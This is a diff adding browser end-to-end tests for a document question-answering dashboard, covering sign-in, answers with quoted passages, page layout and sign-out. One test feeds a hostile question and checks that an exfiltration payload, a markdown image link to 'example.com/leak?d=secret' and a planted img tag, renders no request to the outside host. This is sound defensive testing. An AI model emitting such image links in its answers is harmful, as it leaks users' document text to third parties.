@@ -1,0 +1,81 @@
+"""The dashboards in a real browser: from signing in to the quoted passage."""
+
+import re
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.e2e.conftest import HOSTILE_QUESTION, Window
+from tests.integration.faults.asking import QUESTION
+
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]
+
+
+def width_of(window: Window) -> str:
+    size = window.page.viewport_size
+    return "phone" if size and size["width"] < 500 else "desktop"
+
+
+def expect_no_sideways_scrolling(window: Window) -> None:
+    script = """() => [document.documentElement, document.querySelector('#stMain')]
+        .map(part => part.scrollWidth - part.clientWidth)"""
+    assert max(window.page.evaluate(script)) <= 0
+
+
+class TestDashboards:
+    def test_from_a_question_to_the_quoted_passage(self, window: Window) -> None:
+        window.sign_in()
+        window.open("Ask")
+        window.shot(f"{width_of(window)}-ask-empty")
+        window.ask(QUESTION)
+        answer = window.page.get_by_test_id("stChatMessage").last
+        expect(answer).to_contain_text("60 months. [")
+        expect_no_sideways_scrolling(window)
+        window.shot(f"{width_of(window)}-ask")
+        answer.get_by_role("button", name=re.compile("policy")).click()
+        dialog = window.page.get_by_role("dialog")
+        expect(dialog).to_contain_text("The Model K5 grinder carries a warranty of 60 months.")
+        window.settle()
+        window.shot(f"{width_of(window)}-passage")
+
+    def test_text_of_documents_reaches_no_other_host(self, window: Window) -> None:
+        window.sign_in()
+        window.open("Ask")
+        window.ask(HOSTILE_QUESTION)
+        answer = window.page.get_by_test_id("stChatMessage").last
+        expect(answer).to_contain_text("![x](http://example.com/leak?d=secret)")
+        answer.get_by_role("button", name=re.compile("plants")).click()
+        dialog = window.page.get_by_role("dialog")
+        expect(dialog).to_contain_text("<img src=http://example.com/x>")
+        window.settle()
+        assert window.page.locator("img[src*='example.com'], a[href*='example.com']").count() == 0
+
+    def test_every_page_shows_without_an_error(self, window: Window) -> None:
+        window.sign_in()
+        window.settle()
+        expect(window.page.get_by_test_id("stMetric").first).to_be_visible()
+        expect_no_sideways_scrolling(window)
+        window.shot(f"{width_of(window)}-overview")
+        window.open("Knowledge")
+        expect(window.page.get_by_test_id("stDataFrame")).to_be_visible()
+        expect(window.page.get_by_text("scan.pdf").first).to_be_visible()
+        expect_no_sideways_scrolling(window)
+        window.shot(f"{width_of(window)}-knowledge")
+        window.open("Conversations")
+        expect(window.page.get_by_test_id("stChatMessage").first).to_be_visible()
+        window.page.get_by_test_id("stCheckbox").first.locator("label").click()
+        expect(window.page.get_by_text("Index version")).to_be_visible()
+        window.settle()
+        expect_no_sideways_scrolling(window)
+        window.shot(f"{width_of(window)}-conversations")
+
+    def test_signing_out_shows_the_form_again(self, window: Window) -> None:
+        window.sign_in()
+        window.open_menu()
+        window.page.wait_for_timeout(500)
+        window.shot(f"{width_of(window)}-sidebar-open")
+        window.page.get_by_role("button", name="Sign out").click()
+        expect(window.page.get_by_label("E-mail")).to_be_visible()
+        window.settle()
+        expect_no_sideways_scrolling(window)
+        window.shot(f"{width_of(window)}-sign-in")
